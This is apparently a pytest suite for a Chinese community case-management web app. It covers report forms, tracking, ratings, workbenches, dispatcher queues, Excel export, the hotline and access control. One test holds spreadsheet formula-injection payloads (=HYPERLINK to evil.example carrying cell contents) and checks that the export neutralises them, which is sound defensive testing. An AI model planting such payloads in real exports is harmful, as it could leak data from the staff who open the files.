"""Case pages through the test client: report, track, rate, workbench, queue, case page, hotline, admin."""

from __future__ import annotations

import re
from io import BytesIO
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from PIL import Image
from sqlalchemy import func, select

from jiayuan.cases.models import Case, CasePhoto
from jiayuan.config import Settings
from tests.cases.helpers import act, point_in, report
from tests.conftest import csrf_from, page_login
from tests.personas import COMMUNITY, GRID_A, GRID_B, PERSONAS

PHONE = "13912345678"


@pytest.fixture
def settings(settings: Settings, tmp_path: Path) -> Settings:
    """Photos stored under the test's own folder, not the working tree's var/."""
    return settings.model_copy(update={"var_dir": tmp_path})


def jpeg(size: tuple[int, int] = (64, 48)) -> bytes:
    out = BytesIO()
    Image.new("RGB", size, (200, 120, 40)).save(out, "JPEG")
    return out.getvalue()


def _count(db, model=Case) -> int:  # noqa: ANN001
    with db.sessions() as s:
        return s.scalar(select(func.count()).select_from(model))


def _form(client: TestClient, path: str) -> dict[str, str]:
    """The hidden fields a page's form carries (CSRF token, idempotency key)."""
    html = client.get(path).text
    fields = {"csrf_token": csrf_from(html)}
    m = re.search(r'name="idempotency_key" value="([^"]+)"', html)
    if m:
        fields["idempotency_key"] = m.group(1)
    return fields


def _number(html: str) -> str:
    m = re.search(r'id="tracking-number">(.*?)</p>', html)
    assert m, "no tracking number on the page"
    return re.sub(r"<[^>]+>", "", m.group(1))


def _version(html: str, action: str) -> str:
    form = html.split(f'id="act-{action}"', 1)[1]
    return re.search(r'name="version" value="(\d+)"', form).group(1)


def _post_action(client: TestClient, number: str, action: str, **fields: str):  # noqa: ANN202
    html = client.get(f"/cases/{number}").text
    assert f'id="act-{action}"' in html, f"no {action} form on the case page"
    data = {"csrf_token": csrf_from(html), "version": _version(html, action), **fields}
    return client.post(f"/cases/{number}/actions/{action}", data=data)


def test_resident_reports_through_the_form_and_gets_a_tracking_number(client, api, db) -> None:  # noqa: ANN001
    lat, lon = point_in(api, GRID_A)
    page = client.get("/report")
    assert page.status_code == 200 and 'capture="environment"' in page.text and "暴露垃圾" in page.text
    data = {**_form(client, "/report"), "category": "1101", "description": "小区门口一堆暴露垃圾，气味很大",
            "lat": str(lat), "lon": str(lon), "reporter_name": "张阿姨", "reporter_phone": PHONE}
    r = client.post("/report", data=data, files=[("photos", ("a.jpg", jpeg(), "image/jpeg"))])
    assert r.status_code == 200, r.text
    number = _number(r.text)
    assert "记下" in r.text and "可能重复" not in r.text
    case = api("grid_a").get(f"/api/v1/cases/{number}").json()
    assert case["status"] == "dispatched" and case["channel"] == "resident" and len(case["photos"]) == 1
    assert case["reporter_phone"] == "*******5678" and case["grid_code"] == GRID_A
    # The same form sent twice (a double tap, a reload) is one case.
    again = client.post("/report", data=data, files=[("photos", ("a.jpg", jpeg(), "image/jpeg"))])
    assert _number(again.text) == number
    with db.sessions() as s:
        assert s.scalar(select(func.count()).select_from(Case).where(Case.number == number)) == 1


def test_a_form_sent_again_with_other_details_is_refused_and_given_a_new_key(client, api, db) -> None:  # noqa: ANN001
    lat, lon = point_in(api, GRID_A)
    data = {**_form(client, "/report"), "category": "1101", "description": "小区门口一堆暴露垃圾",
            "lat": str(lat), "lon": str(lon), "reporter_phone": PHONE}
    first = _number(client.post("/report", data=data).text)
    before = _count(db)
    # Back in the browser, the description changed, the same hidden key: not the first case, and not silently.
    r = client.post("/report", data={**data, "description": "路灯坏了，晚上很黑"})
    assert r.status_code == 422 and "这张表单已提交过" in r.text and first not in r.text
    assert _count(db) == before
    fresh = re.search(r'name="idempotency_key" value="([^"]+)"', r.text).group(1)
    assert fresh != data["idempotency_key"]
    again = client.post("/report", data={**data, "description": "路灯坏了，晚上很黑", "idempotency_key": fresh})
    assert again.status_code == 200 and _number(again.text) != first and _count(db) == before + 1


@pytest.mark.parametrize(("change", "files", "message"), [
    ({"lat": "28.5", "lon": "114.98"}, None, "不在本区范围内"),
    ({"description": ""}, None, "请描述问题"),
    ({"description": "长" * 4001}, None, "最多 4000 个字符"),
    ({"category": ""}, None, "请选择问题类型"),
    ({"reporter_phone": "12345"}, None, "手机号"),
    ({}, [("photos", ("x.jpg", b"not an image at all", "image/jpeg"))], "第 1 张照片不是图片"),
    ({"category": "0101"}, None, "请回答这个问题"),
    ({"lat": "", "lon": "", "address": ""}, None, "请在地图上标出位置"),
])
def test_bad_input_shows_the_message_by_the_field_and_stores_nothing(client, api, db, change, files,  # noqa: ANN001
                                                                     message) -> None:
    lat, lon = point_in(api, GRID_A)
    before, photos_before = _count(db), _count(db, CasePhoto)
    data = {**_form(client, "/report"), "category": "1101", "description": "路灯不亮，晚上很黑",
            "lat": str(lat), "lon": str(lon), "reporter_name": "李大爷", "reporter_phone": PHONE,
            "address": "文山路12号", **change}
    r = client.post("/report", data=data, files=files or [("photos", ("", b"", "application/octet-stream"))])
    assert r.status_code == 422, r.text
    assert message in r.text, r.text[r.text.find("field-error") - 200:][:600]
    assert 'class="field-error"' in r.text and 'aria-invalid="true"' in r.text
    assert "Traceback" not in r.text
    # What the user typed is still there.
    assert ("李大爷" in r.text) and (data["description"][:20] in r.text)
    assert _count(db) == before and _count(db, CasePhoto) == photos_before


def test_tracking_by_number_and_phone_shows_the_status_and_when_closed_rates(client, api) -> None:  # noqa: ANN001
    number = report(api, "grid_a", GRID_A, reporter_phone=PHONE)["number"]
    token = _form(client, "/track")["csrf_token"]
    assert client.post("/track", data={"csrf_token": token, "number": number, "phone": "13900000000"}
                       ).status_code == 404
    spaced = f"{number[:6]} {number[6:]}"  # as the confirmation page shows it
    r = client.post("/track", data={"csrf_token": token, "number": spaced, "phone": PHONE})
    assert r.status_code == 200 and "已派遣" in r.text and "满意" not in r.text.split('id="result"')[1]
    assert PERSONAS["grid_a"].username not in r.text and "系统" not in r.text.split('id="result"')[1]
    for who, step, body in (("grid_a", "handle", {"note": "已清理"}), ("community", "check", {}),
                            ("community", "close", {})):  # someone else checks
        act(api, who, number, step, **body)
    r = client.post("/track", data={"csrf_token": token, "number": number, "phone": PHONE})
    assert "已结案" in r.text and 'value="satisfied"' in r.text and "已清理" not in r.text
    r = client.post("/track/rate", data={"csrf_token": token, "number": number, "phone": PHONE,
                                         "rating": "fairly_satisfied", "comment": "还行"})
    assert r.status_code == 200 and "感谢您的评价" in r.text and "基本满意" in r.text
    assert 'value="satisfied"' not in r.text
    again = client.post("/track/rate", data={"csrf_token": token, "number": number, "phone": PHONE,
                                             "rating": "satisfied"})
    assert again.status_code == 409 and "已评价" in again.text
    assert api("admin").get(f"/api/v1/cases/{number}").json()["rating"] == "fairly_satisfied"


def test_signed_in_resident_sees_own_cases_and_rates_on_the_case_page(client, api) -> None:  # noqa: ANN001
    number = report(api, "resident", GRID_A)["number"]
    other = report(api, "grid_a", GRID_A)["number"]
    page_login(client, "resident1")
    mine = client.get("/my/cases").text
    assert f"/cases/{number}" in mine and other not in mine
    assert client.get(f"/cases/{other}").status_code == 404
    for who, step, body in (("grid_a", "handle", {"note": "已清理"}), ("community", "check", {}),
                            ("community", "close", {})):  # someone else checks
        act(api, who, number, step, **body)
    page = client.get(f"/cases/{number}").text
    assert "已结案" in page and PERSONAS["grid_a"].username not in page
    r = _post_action(client, number, "rate", rating="satisfied", note="谢谢")
    assert r.status_code == 200 and "满意" in r.text
    assert api("admin").get(f"/api/v1/cases/{number}").json()["rating"] == "satisfied"


def test_grid_worker_workbench_lists_the_case_with_its_light_and_grid_b_does_not_see_it(client, api) -> None:  # noqa: ANN001
    number = report(api, "resident", GRID_A)["number"]
    page_login(client, PERSONAS["grid_a"].username)
    home = client.get("/home").text
    assert "待办 1" in home and "/patrol" in home
    wb = client.get("/workbench")
    assert wb.status_code == 200
    row = wb.text.split(f'href="/cases/{number}"', 1)
    assert len(row) == 2, "the case is not on the to-do list"
    assert 'class="case-row light-green"' in row[0][-60:]
    assert "正常" in row[1][:400] and "还剩" in row[1][:1200]
    assert '"points"' in wb.text and str(number) in wb.text.split('id="wb-data"')[1]
    case = client.get(f"/cases/{number}").text
    assert 'id="act-start"' in case and 'id="act-handle"' in case and 'id="act-close"' not in case
    client.cookies.clear()
    page_login(client, PERSONAS["grid_b"].username)
    assert f"/cases/{number}" not in client.get("/workbench").text
    assert client.get(f"/cases/{number}").status_code == 404
    r = client.post(f"/cases/{number}/actions/start",
                    data={"csrf_token": csrf_from(client.get("/workbench").text), "version": "1"})
    assert r.status_code == 404


def test_the_handler_handles_with_a_photo_checks_and_closes_on_the_pages(client, api) -> None:  # noqa: ANN001
    number = report(api, "resident", GRID_A)["number"]
    page_login(client, PERSONAS["grid_a"].username)
    r = _post_action(client, number, "handle", note="")
    assert r.status_code == 422 and "请填写说明" in r.text
    html = client.get(f"/cases/{number}").text
    r = client.post(f"/cases/{number}/actions/handle",
                    files=[("photos", ("after.jpg", jpeg(), "image/jpeg"))],
                    data={"csrf_token": csrf_from(html), "version": _version(html, "handle"),
                          "note": "已清运"})
    assert r.status_code == 200 and "已完成：处置反馈" in r.text and "已清运" in r.text
    assert re.search(rf'/api/v1/cases/{number}/photos/[0-9a-f-]+\?thumb=1', r.text)
    assert 'id="act-check"' not in r.text  # who handled it does not check it: the community's staff do
    client.cookies.clear()
    page_login(client, PERSONAS["community"].username)
    assert _post_action(client, number, "check").status_code == 200
    r = _post_action(client, number, "close", note="现场已干净")
    assert r.status_code == 200 and "已结案" in r.text
    thumb = re.search(rf'/api/v1/cases/{number}/photos/[0-9a-f-]+\?thumb=1', r.text).group(0)
    assert client.get(thumb).headers["content-type"] == "image/jpeg"


def test_a_stale_version_gives_the_409_message(client, api) -> None:  # noqa: ANN001
    number = report(api, "resident", GRID_A)["number"]
    page_login(client, PERSONAS["grid_a"].username)
    html = client.get(f"/cases/{number}").text
    stale = _version(html, "handle")
    act(api, "grid_a", number, "start")  # someone else moves the case meanwhile
    r = client.post(f"/cases/{number}/actions/handle",
                    data={"csrf_token": csrf_from(html), "version": stale, "note": "已处理"})
    assert r.status_code == 409 and "此案件已被他人更新，请刷新" in r.text
    assert "已处理" in r.text  # the note typed is kept
    assert api("admin").get(f"/api/v1/cases/{number}").json()["status"] == "in_progress"


def test_dispatcher_queue_filters_and_exports_to_excel(client, api) -> None:  # noqa: ANN001
    lamp = report(api, "resident", GRID_A, category="1502", reporter_phone=PHONE)["number"]  # community level
    trash = report(api, "resident", GRID_A)["number"]  # grid level: dispatched at once
    elsewhere = report(api, "resident", GRID_B, category="1502")["number"]
    page_login(client, PERSONAS["community"].username)
    assert "案件队列" in client.get("/home").text
    new = client.get("/workbench").text
    assert f"/cases/{lamp}" in new and f"/cases/{elsewhere}" in new and f"/cases/{trash}" not in new
    assert client.get("/workbench?tab=overdue").status_code == 200
    assert client.get("/workbench?tab=nonsense&page=x&unit=abc").status_code == 200
    progress = client.get("/workbench?tab=progress").text
    assert f"/cases/{trash}" in progress and f"/cases/{lamp}" not in progress
    by_unit = client.get(f"/workbench?tab=new&unit={GRID_A}").text
    assert f"/cases/{lamp}" in by_unit and f"/cases/{elsewhere}" not in by_unit
    assert f"/cases/{lamp}" in client.get(f"/workbench?tab=all&q={lamp}").text
    assert f"/cases/{trash}" not in client.get(f"/workbench?tab=all&q={lamp}").text
    assert f"/cases/{trash}" not in client.get("/workbench?tab=all&category=1502").text
    r = client.get(f"/cases/export.xlsx?tab=new&unit={GRID_A}")
    assert r.status_code == 200 and r.headers["content-type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml")
    ws = load_workbook(BytesIO(r.content)).active
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0][:3] == ("编号", "状态", "分类")
    numbers = {row[0] for row in rows[1:]}
    assert lamp in numbers and elsewhere not in numbers and trash not in numbers
    phone = rows[0].index("联系电话")
    assert next(row for row in rows if row[0] == lamp)[phone] == "*******5678"
    assert PHONE not in r.content.decode("latin-1")
    # The other community's staff see none of it.
    client.cookies.clear()
    page_login(client, PERSONAS["other_community"].username)
    assert f"/cases/{lamp}" not in client.get("/workbench?tab=all").text
    ws = load_workbook(BytesIO(client.get("/cases/export.xlsx?tab=all").content)).active
    assert lamp not in {row[0] for row in ws.iter_rows(values_only=True)}


def test_the_queue_export_writes_text_that_looks_like_a_formula_as_text(client, api) -> None:  # noqa: ANN001
    """A resident's description or address typed as =HYPERLINK(…) (or with +, -, @, a tab, a carriage return,
    full-width ＝＋－＠) is text in the workbook staff open, never a live formula."""
    typed = {}
    for prefix in ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"):
        evil = f'{prefix}HYPERLINK("http://evil.example/?x="&B2,"详情")'
        number = report(api, "resident", GRID_A, category="1502", description=evil + " 路灯不亮",
                        address=f"{prefix}1+2 红星路")["number"]
        typed[number] = evil
    page_login(client, PERSONAS["community"].username)
    r = client.get("/cases/export.xlsx?tab=all")
    assert r.status_code == 200
    ws = load_workbook(BytesIO(r.content)).active
    formulas = [(c.coordinate, c.value) for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    header = [c.value for c in ws[1]]
    rows = {row[0].value: row for row in ws.iter_rows(min_row=2)}
    for number in typed:
        description = rows[number][header.index("描述")]
        assert description.data_type == "s" and description.value.endswith("路灯不亮")
        if description.value.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠")):
            assert description.quotePrefix  # still text when someone edits the cell in Excel


def test_dispatcher_accepts_registers_and_dispatches_on_the_case_page(client, api) -> None:  # noqa: ANN001
    number = report(api, "resident", GRID_A, category="1502")["number"]
    page_login(client, PERSONAS["community"].username)
    assert _post_action(client, number, "accept").status_code == 200
    assert _post_action(client, number, "register").status_code == 200
    page = client.get(f"/cases/{number}").text
    assert PERSONAS["grid_a"].username in page.split('id="act-dispatch"')[1].split("</form>")[0]
    r = _post_action(client, number, "dispatch", assignee="nobody-at-all")
    assert r.status_code == 422 and "没有这个用户名" in r.text
    r = _post_action(client, number, "dispatch", assignee=PERSONAS["grid_a"].username)
    assert r.status_code == 200 and "已派遣" in r.text
    r = _post_action(client, number, "supervise", level="yellow", note="请尽快处理")
    assert r.status_code == 200 and "黄牌督办" in r.text
    assert f"/cases/{number}" in client.get("/workbench?tab=supervised").text


def test_hotline_console_creates_a_case_and_reads_back_the_callers_cases(client, api) -> None:  # noqa: ANN001
    earlier = report(api, "resident", GRID_A, reporter_phone=PHONE)["number"]
    page_login(client, PERSONAS["hotline"].username)
    assert "12343" in client.get("/home").text
    page = client.get("/hotline").text
    assert f'value="{COMMUNITY}"' in page and f'value="{GRID_A}"' in page
    data = {**_form(client, "/hotline"), "reporter_phone": PHONE, "reporter_name": "王先生",
            "category": "1503",
            "unit_code": COMMUNITY, "description": "楼下工地夜间施工噪音", "attr_1503_noise_time": "night"}
    r = client.post("/hotline", data=data)
    assert r.status_code == 200, r.text
    number = _number(r.text)
    assert f"/cases/{earlier}" in r.text and "*******5678" in r.text and PHONE not in r.text
    case = api("admin").get(f"/api/v1/cases/{number}").json()
    assert case["channel"] == "hotline" and case["origin_code"] == COMMUNITY
    assert "夜间（22时后）" in client.get(f"/cases/{number}").text  # the answer to the category's question
    bad = client.post("/hotline", data={**_form(client, "/hotline"), "category": "1503",
                                        "description": "噪音"})
    assert bad.status_code == 422 and "来电号码" in bad.text
    looked = client.post("/hotline/lookup", data={"csrf_token": csrf_from(page), "reporter_phone": PHONE})
    assert f"/cases/{earlier}" in looked.text and f"/cases/{number}" in looked.text
    client.cookies.clear()
    page_login(client, PERSONAS["grid_a"].username)
    assert client.get("/hotline").status_code == 403


def test_patrol_handled_on_the_spot_goes_to_checking_in_the_workers_grid(client, db) -> None:  # noqa: ANN001
    page_login(client, PERSONAS["grid_a"].username)
    page = client.get("/patrol").text
    assert "自行处置" in page
    data = {**_form(client, "/patrol"), "category": "0301", "description": "垃圾桶破了一个口",
            "handled_on_spot": "1"}
    r = client.post("/patrol", data=data)
    assert r.status_code == 200 and "已上报" in r.text and "核查中" in r.text
    with db.sessions() as s:
        case = s.scalar(select(Case).where(Case.channel == "patrol"))
        assert case.grid_code == GRID_A and case.status == "checking"


def test_categories_admin_is_admin_only(client, api) -> None:  # noqa: ANN001
    page_login(client, PERSONAS["community"].username)
    assert client.get("/admin/categories").status_code == 403
    client.cookies.clear()
    page_login(client, "admin")
    page = client.get("/admin/categories").text
    assert "暴露垃圾" in page and 'id="c-1101"' in page
    token = csrf_from(page)
    r = client.post("/admin/categories/1101", data={
        "csrf_token": token, "name_zh": "暴露垃圾", "name_en": "Exposed rubbish",
        "handling_level": "community", "time_limit_hours": "12", "is_active": "1"})
    assert r.status_code == 200 and "已保存" in r.text
    got = next(c for c in api("admin").get("/api/v1/cases/categories").json() if c["code"] == "1101")
    assert got["handling_level"] == "community" and got["time_limit_hours"] == 12 and not got["urgent"]
    bad = client.post("/admin/categories/1101", data={"csrf_token": token, "name_zh": "暴露垃圾",
                                                      "name_en": "Exposed rubbish", "handling_level": "grid",
                                                      "time_limit_hours": "0", "is_active": "1"})
    assert bad.status_code == 422 and "1 到 2000" in bad.text


def test_pages_without_sign_in(client) -> None:  # noqa: ANN001
    assert client.get("/report").status_code == 200 and client.get("/track").status_code == 200
    for path in ("/workbench", "/patrol", "/hotline", "/my/cases", "/admin/categories"):
        r = client.get(path, follow_redirects=False)
        assert r.status_code == 303 and r.headers["location"].startswith("/login"), path
    r = client.post("/report", data={"category": "1101", "description": "x"})
    assert r.status_code == 403


def test_pages_speak_english_on_request(client, api) -> None:  # noqa: ANN001
    number = report(api, "resident", GRID_A)["number"]
    client.get("/lang/en?next=/report")
    page = client.get("/report").text
    assert "Report a problem" in page and "我要反映" not in page and "Use my location" in page
    page_login(client, PERSONAS["grid_a"].username)
    case = client.get(f"/cases/{number}").text
    assert "Dispatched" in case and "Start handling" in case and "Report handling done" in case
    assert "已派遣" not in case


def test_the_case_page_suggests_duplicates_to_merge(client, api) -> None:  # noqa: ANN001
    from tests.cases.helpers import report as report_case

    first = report_case(api, "resident", GRID_A, category="1502")["number"]
    second = report_case(api, "hotline", GRID_A, category="1502")["number"]
    page_login(client, PERSONAS["community"].username)
    html = client.get(f"/cases/{second}").text
    assert "疑似重复" in html and f'href="/cases/{first}"' in html
